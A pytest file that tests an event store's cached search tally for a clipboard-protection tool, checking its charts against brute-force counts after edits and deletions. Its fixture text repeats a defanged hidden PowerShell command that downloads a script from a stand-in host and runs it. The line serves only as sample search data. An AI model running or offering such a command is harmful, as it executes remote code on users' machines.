"""A common word's kept tally: the charts it answers equal a brute-force count of the events as
they are now, after events are written, deleted (by the store or another program) or the
tally falls far behind, for bars that do not start at a UTC midnight and for every filter."""

from __future__ import annotations

import sqlite3
from collections import Counter
from collections.abc import Iterator
from datetime import datetime, timedelta
from pathlib import Path

import pytest

from app.events import Event
from app.storage import EventFilter, EventStore, queries, search_counts, search_index
from tests.app.storage.conftest import T0, make_event

OFFSET = timedelta(hours=2, minutes=30)  # local time; its midnight is not a UTC one
FIRST = (T0 + OFFSET).replace(tzinfo=None, hour=0, minute=0) - timedelta(days=1)
WIDTH = timedelta(days=1)
BINS = 16
KINDS = ("paste_blocked", "paste_warned", "clipboard_flagged")
TARGETS = ("run_dialog", "terminal", None)


def _text(i: int) -> str:
    if i % 97 == 5:
        return f"rare-marker {i} ÄRGER über Straße"
    if i % 50 == 7:
        return f"nul {i} ab -\x00-inside"
    return f"powershell -w hidden -c iwr hxxps://cdn{i}[.]test/a.ps1 | IEX"


def _event(i: int, when: datetime | None = None) -> Event:
    return make_event(
        time=when or T0 + timedelta(minutes=37 * i),  # 500 events over 13 days
        level=("suspicious", "malicious", "info")[i % 3],
        kind=KINDS[i % 5 % 3],
        target=TARGETS[i % 7 % 3],
        summary=f"event {i}",
        text=_text(i),
    )


def _fill(store: EventStore, n: int = 500) -> list[Event]:
    events = []
    for i in range(n):
        event = _event(i)
        event_id = store.append(event)
        assert event_id is not None
        events.append(event.with_id(event_id))
    return events


def _contains(event: Event, needle: str) -> bool:
    fields = [event.summary, event.text or "", event.source or "", '["' + '","'.join(event.rules) + '"]']  # fmt: skip
    if needle.isascii():
        fold = str.maketrans("ABCDEFGHIJKLMNOPQRSTUVWXYZ", "abcdefghijklmnopqrstuvwxyz")
        return any(needle.translate(fold) in f.translate(fold) for f in fields)
    return any(needle.casefold() in f.casefold() for f in fields)


def _matches(e: Event, f: EventFilter) -> bool:
    if not _contains(e, f.search or ""):
        return False
    if any(
        values is not None and value not in values
        for value, values in ((e.level, f.levels), (e.kind, f.kinds), (e.target, f.targets))
    ):
        return False
    return not (
        (f.since is not None and e.time < f.since) or (f.until is not None and e.time >= f.until)
    )


def _brute(events: list[Event], f: EventFilter) -> list[Counter[str]]:
    bars: list[Counter[str]] = [Counter() for _ in range(BINS)]
    for e in events:
        if not _matches(e, f):
            continue
        i = int(((e.time + OFFSET).replace(tzinfo=None) - FIRST) // WIDTH)
        if 0 <= i < BINS:
            bars[i][e.level] += 1
    return bars


def _bars(found: list[tuple[datetime, str, int]] | None) -> list[Counter[str]]:
    bars: list[Counter[str]] = [Counter() for _ in range(BINS)]
    for when, level, n in found or []:
        bars[int((when - FIRST) // WIDTH)][level] += n
    return bars


def _chart(store: EventStore, f: EventFilter) -> list[tuple[int, list[tuple[datetime, str, int]]]]:
    return list(store.counts_in_bins_stepwise(f, FIRST, WIDTH, BINS, utc_offset=OFFSET))


def _keep(store: EventStore, search: str) -> int:
    """Build the tally; how many steps it took."""
    return sum(1 for _ in store.keep_counts(search, FIRST, WIDTH, BINS, utc_offset=OFFSET))


@pytest.fixture
def small(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    monkeypatch.setattr(queries, "SEARCH_WINDOW", 40)
    monkeypatch.setattr(queries, "STEP_EVENTS", 25)
    monkeypatch.setattr(search_counts, "STEP_EVENTS", 60)  # about 1.5 days a step
    monkeypatch.setattr(search_index, "INDEX_BATCH", 64)
    monkeypatch.setattr(search_index, "INDEX_LAG", 64)  # appends index a batch as soon as one waits
    yield


@pytest.fixture
def no_reading(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """Proves a chart came from the kept tally: any other way asks `queries.common` first."""

    def boom(*args: object) -> bool:
        raise AssertionError("the chart was counted again, not answered from the tally")

    monkeypatch.setattr(queries, "common", boom)
    yield


FILTERS = [
    EventFilter(),
    EventFilter(levels=frozenset({"malicious"})),
    EventFilter(kinds=frozenset({"paste_warned"}), targets=frozenset({"terminal"})),
    EventFilter(targets=frozenset({"run_dialog", "terminal"})),  # not the events without one
    EventFilter(since=T0 + timedelta(days=3, minutes=7), until=T0 + timedelta(days=9, hours=5)),
]


@pytest.mark.parametrize("search", ["powershell", "rare-marker", "ärger", "\x00-in", "ab", "zz"])
def test_a_kept_tally_answers_every_filter_as_a_brute_force_count(
    store: EventStore, small: None, monkeypatch: pytest.MonkeyPatch, search: str
) -> None:
    events = _fill(store)
    assert _keep(store, search) > 3  # a few days a step
    monkeypatch.setattr(queries, "common", lambda *a: pytest.fail("not from the tally"))
    for base in FILTERS:
        for asked in (search, search.upper()):  # the same search, however it is typed
            f = EventFilter(**{**base.__dict__, "search": asked})
            (answer,) = _chart(store, f)
            assert answer[0] == 0 and _bars(answer[1]) == _brute(events, f), (asked, base)
            assert store.kept_count(f) == sum(_matches(e, f) for e in events), (asked, base)


def test_events_written_and_deleted_since_are_counted(
    store: EventStore, data_dir: Path, small: None, no_reading: None
) -> None:
    events = _fill(store)
    _keep(store, "powershell")
    f = EventFilter(search="powershell")
    # written since: the newest, and one dated back into a counted day
    for i, when in ((900, None), (901, T0 + timedelta(days=4, hours=1))):
        event = _event(i, when)
        event_id = store.append(event)
        assert event_id is not None
        events.append(event.with_id(event_id))
    # deleted since: by the store, and by another program behind its back
    gone = [e.id for e in events[100:104]]
    assert store.delete([i for i in gone if i is not None]) == 4
    other = sqlite3.connect(data_dir / "events.db", isolation_level=None)
    other.execute("DELETE FROM events WHERE id IN (?, ?)", (events[300].id, events[301].id))
    other.close()
    events = [e for e in events if e.id not in (*gone, events[300].id, events[301].id)]
    (answer,) = _chart(store, f)
    assert _bars(answer[1]) == _brute(events, f)
    assert store.kept_count(f) == sum(_matches(e, f) for e in events)
    (answer,) = _chart(store, EventFilter(search="powershell", levels=frozenset({"info"})))
    assert _bars(answer[1]) == _brute(
        events, EventFilter(search="powershell", levels=frozenset({"info"}))
    )


def test_a_tally_far_behind_the_log_is_counted_again(
    store: EventStore, small: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    events = _fill(store)
    _keep(store, "powershell")
    monkeypatch.setattr(search_counts, "FRESH_LIMIT", 3)
    for i in range(600, 605):
        event = _event(i, T0 + timedelta(days=2, minutes=i))
        event_id = store.append(event)
        assert event_id is not None
        events.append(event.with_id(event_id))
    f = EventFilter(search="powershell")
    answers = _chart(store, f)
    assert len(answers) > 1  # read again, step by step, and right
    assert answers[-1][0] == 0 and _bars(answers[-1][1]) == _brute(events, f)
    assert len(_chart(store, f)) > 1  # the stale tally is gone, not used again
    assert store.kept_count(f) is None


def test_a_tally_stopped_half_way_is_not_kept(store: EventStore, small: None) -> None:
    events = _fill(store)
    building = store.keep_counts("powershell", FIRST, WIDTH, BINS, utc_offset=OFFSET)
    next(building)
    building.close()  # a newer filter came
    f = EventFilter(search="powershell")
    answers = _chart(store, f)
    assert len(answers) > 1 and _bars(answers[-1][1]) == _brute(events, f)
    assert store.kept_count(f) is None
    _keep(store, "powershell")
    assert len(_chart(store, f)) == 1  # once complete, it is


def test_a_chart_outside_the_kept_days_is_counted(store: EventStore, small: None) -> None:
    events = _fill(store)
    later = FIRST + timedelta(days=5)
    assert sum(1 for _ in store.keep_counts("powershell", later, WIDTH, 3, utc_offset=OFFSET))
    f = EventFilter(search="powershell")
    answers = _chart(store, f)  # the whole range: more than the tally holds
    assert len(answers) > 1 and _bars(answers[-1][1]) == _brute(events, f)


@pytest.mark.parametrize("seed", range(6))
def test_random_logs_periods_and_changes_agree_with_a_brute_force_count(
    data_dir: Path, small: None, seed: int
) -> None:
    """Random events, bars (hours, days, weeks at any offset), periods and facets; events
    written and deleted after the tally was kept: every chart and count is the brute force's."""
    import random

    rng = random.Random(seed)
    words = ["powershell", "curl", "ab", "Straße"]
    events: list[Event] = []
    with EventStore.open(data_dir) as store:

        def add(n: int) -> None:
            for _ in range(n):
                event = make_event(
                    time=T0 + timedelta(minutes=rng.randrange(0, 20 * 1440)),
                    level=rng.choice(["info", "suspicious", "malicious"]),
                    target=rng.choice(["terminal", "run_dialog", None]),
                    summary=f"s{rng.random()}",
                    text=" ".join(rng.choice([*words, "zz"]) for _ in range(3)),
                )
                event_id = store.append(event)
                assert event_id is not None
                events.append(event.with_id(event_id))

        add(rng.randrange(80, 200))
        offset = timedelta(hours=rng.choice([0, 1, -5, 5.5, 12, -11]))
        width = rng.choice([timedelta(hours=6), timedelta(days=1), timedelta(days=7)])
        first = (T0 + offset).replace(tzinfo=None) - timedelta(
            days=rng.randrange(3), hours=rng.randrange(24)
        )
        count = rng.randrange(1, 40)
        word = rng.choice(words)
        for _ in store.keep_counts(word, first, width, count, utc_offset=offset):
            pass
        add(rng.randrange(15))
        gone = {e.id for e in rng.sample(events, rng.randrange(10))}
        store.delete([i for i in gone if i is not None])
        events[:] = [e for e in events if e.id not in gone]
        for _ in range(4):
            since = T0 + timedelta(minutes=rng.randrange(20 * 1440)) if rng.random() < 0.4 else None
            until = (
                since + timedelta(minutes=rng.randrange(1, 10 * 1440))
                if since is not None and rng.random() < 0.6
                else None
            )
            f = EventFilter(
                search=rng.choice([word, word.upper() if word.isascii() else word.title()]),
                since=since,
                until=until,
                levels=frozenset({"malicious"}) if rng.random() < 0.3 else None,
                targets=frozenset({"terminal"}) if rng.random() < 0.3 else None,
            )
            found = list(store.counts_in_bins_stepwise(f, first, width, count, utc_offset=offset))
            assert len(found) == 1  # from the kept tally
            bars: list[Counter[str]] = [Counter() for _ in range(count)]
            for when, level, n in found[-1][1]:
                bars[(when - first) // width][level] += n
            expected: list[Counter[str]] = [Counter() for _ in range(count)]
            for e in events:
                i = ((e.time + offset).replace(tzinfo=None) - first) // width
                if _matches(e, f) and 0 <= i < count:
                    expected[i][e.level] += 1
            assert bars == expected, f
            assert store.kept_count(f) == sum(_matches(e, f) for e in events), f
